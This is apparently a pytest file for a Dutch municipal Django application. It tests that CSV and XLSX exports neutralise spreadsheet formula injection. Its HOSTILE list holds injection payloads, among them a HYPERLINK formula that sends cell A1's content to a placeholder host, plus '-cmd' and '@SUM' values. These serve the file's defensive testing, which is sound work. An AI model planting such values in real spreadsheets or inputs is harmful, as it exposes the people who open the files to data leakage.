"""Every CSV and XLSX export of every module neutralises formulas (core.exports): hostile text
typed by a partner or read from an import comes back as text, never as a live formula, while
numbers (also negative ones) stay numbers. The files are opened with openpyxl and the csv
module, as a spreadsheet program would read them."""

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core import exports
from finance.models import Aanvraag, Regeling
from monitor import services as monitor_services
from monitor.models import Indicator, MonitorInstelling
from plans.models import Activiteit
from regions.models import Gebied
from tests.finance.conftest import JAAR

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = ['=HYPERLINK("http://x"&A1,"klik")', "+1", "-cmd", "@SUM(A1:A2)", "\tx", "\rx"]


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_neutralises_formula_text(value):
    assert exports.safe_cell(value) == "'" + value
    assert exports.unquote_cell(exports.safe_cell(value)) == value


@pytest.mark.parametrize("value", [-5, -0.25, Decimal("-12.50"), 0, None, "gewone tekst",
                                   "e-mail", "'al tekst"])
def test_safe_cell_keeps_numbers_and_plain_text(value):
    assert exports.safe_cell(value) == value


def test_csv_writes_negative_numbers_as_numbers():
    text = exports.csv_text(["a", "b", "c"], [[-0.1, Decimal("-2.50"), "-x"]])
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))[1] == [
        "-0,1", "-2,50", "'-x"]


def assert_no_formula_xlsx(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(exports.FORMULA_START), (
                        ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def assert_no_formula_csv(content: bytes, delimiter=";") -> list:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""),
                           delimiter=delimiter))
    values = [value for row in rows for value in row]
    for value in values:
        assert not value.startswith(exports.FORMULA_START), value
    return values


def quoted(values):
    return {"'" + v for v in HOSTILE} & set(values)


def test_finance_xlsx_neutralises_titles_and_names(groningen, client_for):
    aanvragen = list(Aanvraag.objects.filter(gemeente=groningen).order_by("pk"))
    assert len(aanvragen) >= len(HOSTILE)
    for aanvraag, value in zip(aanvragen, HOSTILE, strict=False):
        Aanvraag.objects.filter(pk=aanvraag.pk).update(titel=value)
    regeling = Regeling.objects.filter(gemeente=groningen).first()
    Regeling.objects.filter(pk=regeling.pk).update(naam="@regeling")
    response = client_for("groningen", "beleid").get(
        reverse("finance:export", kwargs={"gemeente": groningen.slug}), {"jaar": JAAR})
    assert response.status_code == 200
    values = assert_no_formula_xlsx(response.content)
    assert quoted(values) == {"'" + v for v in HOSTILE}
    assert "'@regeling" in values
    assert any(isinstance(v, (int, float)) and v > 0 for v in values)  # money stays numbers


@pytest.fixture
def hostile_monitor(groningen, demo_user):
    """The demo's armoede indicator with figures, its name and a gebied's name made hostile."""
    files = ROOT / "tests" / "monitor" / "files"
    result = monitor_services.importeer(
        demo_user("groningen", "beleid"), groningen,
        (files / "pagina_armoede_2020_2024.csv").read_bytes(), "pagina_armoede_2020_2024.csv",
        bron="")
    assert result.status == "ingelezen"
    indicator = Indicator.objects.get(gemeente=groningen, code="armoede_kind")
    Indicator.objects.filter(pk=indicator.pk).update(naam=HOSTILE[0])
    Gebied.objects.filter(gemeente=groningen, naam="De Weijert").update(naam="-cmd")
    return indicator


@pytest.mark.parametrize("public", [False, True])
def test_monitor_csv_and_xlsx_neutralise_names(public, groningen, hostile_monitor, client):
    if public:  # the public monitor's exports, read without an account
        MonitorInstelling.objects.filter(gemeente=groningen).update(publiek=True)
    else:
        from core.models import User

        client.force_login(User.objects.get(username="groningen-beleid"))
    kwargs = {"gemeente": groningen.slug, "pk": hostile_monitor.pk}
    as_csv = client.get(reverse("monitor:export-csv", kwargs=kwargs))
    assert as_csv.status_code == 200
    csv_values = assert_no_formula_csv(as_csv.content)
    assert {"'" + HOSTILE[0], "'-cmd"} <= set(csv_values)
    as_xlsx = client.get(reverse("monitor:export-xlsx", kwargs=kwargs))
    assert as_xlsx.status_code == 200
    xlsx_values = assert_no_formula_xlsx(as_xlsx.content)
    assert {"'" + HOSTILE[0], "'-cmd"} <= set(xlsx_values)
    assert any(isinstance(v, float) for v in xlsx_values)  # waarden stay numbers


def test_plans_xlsx_and_templates_neutralise_activiteiten(groningen, client_for):
    from plans.models import WijkplanVersie

    versie = WijkplanVersie.objects.filter(wijkplan__gemeente=groningen,
                                           status="vastgesteld").first()
    activiteiten = list(versie.activiteiten.order_by("pk"))
    for activiteit, value in zip(activiteiten, HOSTILE, strict=False):
        Activiteit.objects.filter(pk=activiteit.pk).update(beschrijving=value)
    client = client_for("groningen", "beleid")
    response = client.get(reverse("plans:versie-xlsx",
                                  kwargs={"gemeente": groningen.slug, "pk": versie.pk}))
    assert response.status_code == 200
    values = assert_no_formula_xlsx(response.content)
    assert quoted(values) == {"'" + v for v in HOSTILE[:len(activiteiten)]}
    assert any(isinstance(v, int) and v < 0 for v in values)  # leeftijd -9 maanden: a number
    sjabloon = reverse("plans:import-sjabloon", kwargs={"gemeente": groningen.slug})
    assert_no_formula_xlsx(client.get(sjabloon).content)
    assert_no_formula_csv(client.get(sjabloon, {"formaat": "csv"}).content, delimiter=",")


# Files that write a CSV or workbook themselves, and why that is safe.
OWN_WRITERS = {
    # The monitor import template: header and example rows are the site's own constants
    # (example values such as "-0,12" must stay unquoted); indicator names go through
    # exports.safe_cell.
    Path("monitor/importers/sjabloon.py"),
}


def test_every_writer_lives_in_core_exports():
    """No module writes CSV or builds a workbook itself: exports go through core.exports."""
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        rel = path.relative_to(ROOT)
        if rel.parts[0] in {".venv", "node_modules", "tests", "bench", "var"} or \
                "migrations" in rel.parts or rel == Path("core/exports.py") or \
                rel in OWN_WRITERS:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and \
                    node.value.id == "csv" and node.attr in {"writer", "DictWriter"}:
                offenders.append(f"{rel}:{node.lineno} csv.{node.attr}")
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
                names = {a.name for a in node.names}
                if names & {"Workbook", "WriteOnlyCell"}:
                    offenders.append(f"{rel}:{node.lineno} openpyxl {sorted(names)}")
    assert offenders == []
